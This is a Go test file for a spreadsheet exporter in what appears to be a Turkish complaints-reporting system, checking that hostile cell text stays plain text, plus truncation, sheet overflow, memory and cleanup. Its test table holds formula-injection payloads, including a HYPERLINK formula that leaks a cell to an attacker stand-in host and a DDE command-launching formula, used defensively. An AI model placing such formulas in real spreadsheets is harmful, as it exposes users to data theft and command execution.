package rapor

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"acikkapi/internal/calc"
)

// hostile is what people may type, and what a spreadsheet shall show.
var hostile = []struct{ typed, shown string }{
	{"=1+1", "=1+1"},
	{`=HYPERLINK("http://saldirgan.example/?x="&A1;"Tıkla")`, `=HYPERLINK("http://saldirgan.example/?x="&A1;"Tıkla")`},
	{"=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"},
	{"+905000000001", "+905000000001"},
	{"-2+3", "-2+3"},
	{"@SUM(1;2)", "@SUM(1;2)"},
	{"\t=1+1", "\t=1+1"},
	{"\r=1+1", "\n=1+1"},
	{"satır 1\r\nsatır 2", "satır 1\nsatır 2"},
	{"\x00\x01=1+1\x1b[31m", "\uFFFD\uFFFD=1+1\uFFFD[31m"},
	{"bozuk \xff\xfe bayt", "bozuk \uFFFD bayt"},
	{"_x0041_ ve _x000D_", "_x0041_ ve _x000D_"},
	{"<b>&amp;</b> ]]>", "<b>&amp;</b> ]]>"},
	{"007", "007"},
	{"1E5", "1E5"},
	{"21.11.2026", "21.11.2026"},
	{"TRUE", "TRUE"},
	{" boşluk ", " boşluk "},
	{"İÇİŞLERİ ığüşöç 🇹🇷", "İÇİŞLERİ ığüşöç 🇹🇷"},
	{"'=1+1", "'=1+1"},
}

func write(t testing.TB, x *Xlsx) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := x.Finish(&b); err != nil {
		t.Fatal(err)
	}
	if err := x.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// SC-08, AK-04: LibreOffice opens the file and shows every hostile text as the text that it is; times are those of Türkiye, numbers numbers.
func TestHostileTextStaysText(t *testing.T) {
	t.Parallel()
	x, err := NewXlsx(t.TempDir(), "Başvurular", Sutun{"No", 10}, Sutun{"Konu", 40}, Sutun{"Tarih", 17}, Sutun{"=1+1", 5})
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 11, 21, 22, 30, 0, 0, time.UTC)
	for i, h := range hostile {
		if err := x.Row(Sayi(int64(1000+i)), Metin(h.typed), Zaman(at), Zaman(time.Time{})); err != nil {
			t.Fatal(err)
		}
	}
	file := write(t, x)
	rows := calc.Read(t, file)["Başvurular"]
	if len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(hostile)+1)
	}
	if got := strings.Join(rows[0], "|"); got != "No|Konu|Tarih|=1+1" {
		t.Errorf("header %q", got)
	}
	for i, h := range hostile {
		want := []string{fmt.Sprint(1000 + i), h.shown, "22.11.2026 01:30", ""}
		if fmt.Sprintf("%q", rows[i+1]) != fmt.Sprintf("%q", want) {
			t.Errorf("%q is shown as %q, want %q", h.typed, rows[i+1], want)
		}
	}
	sheet := part(t, file, "xl/worksheets/sheet1.xml")
	if strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<f ") || strings.Contains(sheet, `t="str"`) {
		t.Error("there is a formula in the sheet")
	}
	for what, mark := range map[string]string{
		"a header that stays in sight": `state="frozen"`, "filter buttons": fmt.Sprintf(`<autoFilter ref="$A$1:$D$%d"`, len(hostile)+1), "widths": `width="40"`,
		"all columns on a page": `<pageSetUpPr fitToPage="true"`, "paper across": `orientation="landscape"`,
	} {
		if !strings.Contains(sheet, mark) {
			t.Errorf("no %s", what)
		}
	}
	// Edited in the spreadsheet, a text that begins like a formula stays text: its format says so.
	if m := regexp.MustCompile(`<c r="B2" s="(\d+)" t="inlineStr">`).FindStringSubmatch(sheet); m == nil || m[1] != fmt.Sprint(x.style.guarded) {
		t.Errorf("=1+1 is not guarded: %v", m)
	}
}

// A text longer than a cell is cut, and shows it; nothing is cut before that, and no letter in two.
func TestLongText(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		in   string
		want int // UTF-16 units
		cut  bool
	}{
		"fits":               {strings.Repeat("ş", maxMetin), maxMetin, false},
		"one too many":       {strings.Repeat("ş", maxMetin+1), maxMetin, true},
		"far too many":       {strings.Repeat("ş", 200_000), maxMetin, true},
		"pairs fit":          {strings.Repeat("🙂", maxMetin/2), maxMetin - 1, false},
		"pairs, one letter":  {strings.Repeat("🙂", maxMetin/2) + "ş", maxMetin, false},
		"pairs, one too far": {strings.Repeat("🙂", maxMetin/2+1), maxMetin, true},
	} {
		got, n := inert(c.in), 0
		for _, r := range got {
			n++
			if r > 0xFFFF {
				n++
			}
		}
		if n > maxMetin || (c.cut && n < maxMetin-2) || (!c.cut && got != c.in) || strings.HasSuffix(got, "…") != c.cut || strings.ContainsRune(got, '\uFFFD') {
			t.Errorf("%s: %d units, ends in %q", name, n, got[len(got)-6:])
		}
	}
}

// More rows than a sheet holds go on to further ones, each with its header; none is lost (AK-04).
func TestFurtherSheets(t *testing.T) {
	t.Parallel()
	x, err := NewXlsx(t.TempDir(), "Başvurular", Sutun{"No", 10})
	if err != nil {
		t.Fatal(err)
	}
	x.max = 10
	for i := range 25 {
		if err := x.Row(Sayi(int64(i))); err != nil {
			t.Fatal(err)
		}
	}
	sheets := calc.Read(t, write(t, x))
	for name, want := range map[string][2]string{"Başvurular": {"0", "9"}, "Başvurular 2": {"10", "19"}, "Başvurular 3": {"20", "24"}} {
		rows := sheets[name]
		if len(rows) < 2 || rows[0][0] != "No" || rows[1][0] != want[0] || rows[len(rows)-1][0] != want[1] {
			t.Errorf("sheet %q: %v", name, rows)
		}
	}
	if len(sheets) != 3 {
		t.Errorf("%d sheets", len(sheets))
	}
}

// PL-10: 200,000 rows take no more memory than a few thousand; what waits on disk is gone afterwards.
func TestMemoryIsBounded(t *testing.T) {
	dir := t.TempDir()
	x, err := NewXlsx(dir, "Başvurular", Sutun{"No", 10}, Sutun{"Ad", 20}, Sutun{"Konu", 40}, Sutun{"Tarih", 17}, Sutun{"Durum", 20})
	if err != nil {
		t.Fatal(err)
	}
	var peak atomic.Uint64
	look := func() {
		var m runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&m)
		peak.Store(max(peak.Load(), m.HeapAlloc))
	}
	look()
	before := peak.Load()
	konu := strings.Repeat("Mahallemizde çöp toplanmıyor. ", 8)
	spilled := false
	for i := range 200_000 {
		if err := x.Row(Sayi(int64(i)), Metin("AYŞE DEMİR"), Metin(konu), Zaman(time.Unix(int64(1_700_000_000+i), 0)), Metin("Havuzda")); err != nil {
			t.Fatal(err)
		}
		if i%20_000 == 0 {
			look()
			left, _ := filepath.Glob(filepath.Join(dir, "excelize-*"))
			spilled = spilled || len(left) > 0
		}
	}
	var n counter
	if err := x.Finish(&n); err != nil {
		t.Fatal(err)
	}
	look()
	if grown := peak.Load() - before; grown > 48<<20 {
		t.Errorf("the heap grew by %d MB", grown>>20)
	} else {
		t.Logf("heap grew by %d MB at the most, file of %d MB", grown>>20, n>>20)
	}
	if err := x.Close(); err != nil {
		t.Fatal(err)
	}
	if left, _ := os.ReadDir(dir); !spilled || len(left) > 0 {
		t.Errorf("spilled to disk: %v, left there: %v", spilled, left)
	}
}

type counter int64

func (c *counter) Write(p []byte) (int, error) {
	*c += counter(len(p))
	return len(p), nil
}

// A disk that is full makes an error, not a file that looks whole.
func TestFullDisk(t *testing.T) {
	t.Parallel()
	x, err := NewXlsx(t.TempDir(), "Başvurular", Sutun{"No", 10})
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if err := x.Row(Sayi(1)); err != nil {
		t.Fatal(err)
	}
	if err := x.Finish(full{}); err == nil {
		t.Error("no error")
	}
}

type full struct{}

func (full) Write([]byte) (int, error) { return 0, io.ErrShortWrite }

func part(t *testing.T, file []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// What a killed process has left is removed by the next; what a living one has open stays.
func TestGeciciRemovesWhatIsLeft(t *testing.T) {
	t.Parallel()
	root := filepath.Join(t.TempDir(), "islem")
	living, err := OpenGecici(root)
	if err != nil {
		t.Fatal(err)
	}
	killed, err := OpenGecici(root)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(killed.Dir, "excelize-1"), []byte("AYŞE DEMİR"), 0o600); err != nil {
		t.Fatal(err)
	}
	killed.lock.Close() // as the kernel does
	next, err := OpenGecici(root)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(killed.Dir); !os.IsNotExist(err) {
		t.Errorf("left behind: %v", err)
	}
	if _, err := os.Stat(living.Dir); err != nil {
		t.Errorf("taken from a living process: %v", err)
	}
	for _, g := range []*Gecici{living, next} {
		if err := g.Close(); err != nil {
			t.Error(err)
		}
	}
	if left, _ := os.ReadDir(root); len(left) != 0 {
		t.Errorf("left after a clean end: %v", left)
	}
}
